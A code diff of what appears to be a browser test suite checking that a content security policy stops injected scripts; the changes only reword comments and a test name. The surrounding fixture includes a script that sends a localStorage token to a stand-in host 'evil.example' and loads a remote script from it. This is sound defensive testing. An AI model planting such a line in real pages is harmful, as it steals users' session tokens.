@@ -7,7 +7,7 @@ import { CUSTOMER } from './visitor.ts';
 
 const EVIL = 'https://evil.example';
 
-/** What an attacker would put into a page that let them. */
+/** Markup that an attacker would inject into a page. */
 const INJECTED = `
   <script>window.stolen = 'inline'; fetch('${EVIL}/inline?' + localStorage.token)</script>
   <script src="${EVIL}/foreign.js"></script>
@@ -80,7 +80,7 @@ describe('a script injected into a page', () => {
     },
   );
 
-  it('would do all that without the content security policy', async () => {
+  it('runs, loads and sends when there is no content security policy', async () => {
     const { page, asked } = await openInjected('/about', (html) =>
       html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''),
     );
@@ -105,7 +105,7 @@ describe('a script injected into a page', () => {
         new WebSocket(url.replace('https', 'wss'));
         new EventSource(url);
       } catch {
-        // Refused at once is as good.
+        // An immediate refusal is fine too.
       }
     }, EVIL);
     await page.waitForLoadState('networkidle');
